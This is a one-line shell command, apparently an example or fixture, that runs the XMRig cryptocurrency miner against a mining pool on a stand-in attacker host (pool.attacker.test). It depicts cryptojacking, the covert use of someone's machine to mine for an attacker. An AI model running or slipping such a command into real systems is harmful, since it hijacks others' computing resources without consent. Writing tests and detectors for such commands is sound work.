./xmrig -o pool.attacker.test:3333
